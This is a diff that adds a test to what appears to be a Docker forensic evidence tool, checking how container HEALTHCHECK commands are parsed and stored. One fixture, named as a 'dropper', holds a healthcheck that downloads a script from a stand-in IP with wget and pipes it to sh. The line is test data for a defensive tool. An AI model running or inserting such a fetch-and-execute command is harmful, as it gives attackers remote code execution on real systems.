@@ -22,6 +22,20 @@ async function load(files: Record<string, string>) {
   return { db, all, kinds: Object.fromEntries(all('select path, kind from files').map((r) => [r.path, r.kind])), close: () => result.db!.close() };
 }
 
+describe('docker container evidence', () => {
+  it('keeps the command of each HEALTHCHECK: CMD-SHELL through /bin/sh -c, exec-form CMD as is, NONE as none (real dockerd)', async () => {
+    const { all, close } = await load({ 'docker/inspect.json': 'docker/inspect-healthcheck.json' });
+    const byName = Object.fromEntries(all('select name, healthcheck from containers').map((r) => [r.name, r.healthcheck === null ? null : JSON.parse(String(r.healthcheck))]));
+    expect(byName).toEqual({
+      'cf-fixture-hc-web': ['/bin/sh', '-c', 'wget -q --spider http://127.0.0.1:8080/healthz || exit 1'],
+      'cf-fixture-hc-exec': ['/bin/ls', '/tmp'],
+      'cf-fixture-hc-off': null,
+      'cf-fixture-hc-dropper': ['/bin/sh', '-c', 'wget -qO- http://203.0.113.50/h.sh | sh'],
+    });
+    close();
+  });
+});
+
 describe('docker image evidence', () => {
   it('recognises and loads image inspect, history, images, ps, diff and volumes', async () => {
     const hex = 'd62a7f1c552130e27e16b078bfd7396f76834c27efd6d5efb53188b0dc928040';
